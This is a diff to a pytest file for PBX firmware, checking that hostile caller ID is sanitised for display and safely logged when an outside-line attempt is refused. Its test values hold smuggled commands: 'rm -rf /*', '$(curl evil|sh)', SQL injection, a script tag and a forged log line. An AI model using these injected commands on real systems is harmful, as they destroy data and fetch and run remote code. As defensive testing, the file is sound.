@@ -3,6 +3,8 @@ lock-out, call-rate limit, maximum duration, and the abuse cases of issue 5 (an 
 never reach an outside line; transfers/forwards of outside callers go through the same gate)."""
 from __future__ import annotations
 
+import logging
+
 import pytest
 
 from firmware.apps import permissions_store as store
@@ -435,32 +437,42 @@ def test_disa_is_off_by_default_then_needs_a_code_and_obeys_its_class(pbx):
 # ---------------------------------------------------------------- untrusted caller ID
 
 def test_caller_id_with_shell_characters_and_1kb_is_stored_verbatim_and_sent_clean(pbx, caplog):
-    nasty_number = "5550100;rm -rf /*`reboot`$(id)|"
+    nasty_number = "5550100;rm -rf /*`reboot`$(id)|\r\nINFO fake log line"
     nasty_name = ("'; DROP TABLE calls;-- $(curl evil|sh) <script>alert(1)</script>\r\n\x00\x1b[31m"
                   * 20)[:1024]
     pbx.co.caller_id_enabled = False                     # only the hostile caller ID below arrives
     r = pbx.co.remote("5550100")
     r.call(pbx.co.line_number(1))
-    line = pbx.engine.channels["fxo1"]
+    eng = pbx.engine
+    line = eng.channels["fxo1"]
     pbx.run_until(lambda: pbx.state("fxo1") == "ringing", 10)
-    pbx.engine.on_caller_id(line, nasty_number, nasty_name)       # what the FSK decoder hands over
+    eng.on_caller_id(line, nasty_number, nasty_name)             # what the FSK decoder hands over
     phone = pbx.phone("201")
     pbx.run_until(lambda: phone.caller_id is not None, 12)
     assert set(phone.caller_id.number) <= set("0123456789*#") and len(phone.caller_id.number) <= 20
     assert len(phone.caller_id.name) <= 15 and phone.caller_id.name.isprintable()
-    # The caller, now answered, tries the access code: refused, and logged without raw control text.
     phone.off_hook()
     pbx.run(1)
-    eng = pbx.engine
-    call = next(c for c in eng.calls if c.a is line)
-    assert not eng.authorise_outside(eng.outside_policy.origin_of(line), "5550199").allowed
+    (call,) = eng.calls
+    assert call.src == nasty_number
+    # This caller is handed towards an outside line (as a careless transfer would): refused, and the
+    # refusal is logged with the caller ID quoted, never as raw control characters or a forged line.
     phone.on_hook()
+    pbx.run(0.5)
+    line.seize()
+    caplog.clear()
+    with caplog.at_level(logging.INFO, logger="linebox.permissions"):
+        raw = Call(eng, line, "outbound", call.src, "5550199", line="fxo2", cid_number=nasty_number)
+        raw.dial_line(eng.channels["fxo2"], "5550199")
     pbx.run(2)
-    (rec,) = records(pbx)
-    assert rec["caller_id_number"] == nasty_number and rec["caller_id_name"] == nasty_name
-    assert rec["src"] == call.src
+    denials = [m for m in caplog.messages if "denied" in m]
+    assert len(denials) == 1 and repr(nasty_number[:40]) in denials[0]
     for msg in caplog.messages:
-        assert "\r" not in msg and "\x1b" not in msg and "\x00" not in msg
+        assert not ({"\r", "\n", "\x00", "\x1b"} & set(msg))
+    inbound, refused = records(pbx)
+    assert inbound["caller_id_number"] == nasty_number and inbound["caller_id_name"] == nasty_name
+    assert (refused["src"], refused["disposition"]) == (nasty_number, "denied")
+    assert not pbx.board.fxo(2).is_off_hook
 
 
 def test_numbers_that_are_not_digits_never_pass(pbx):
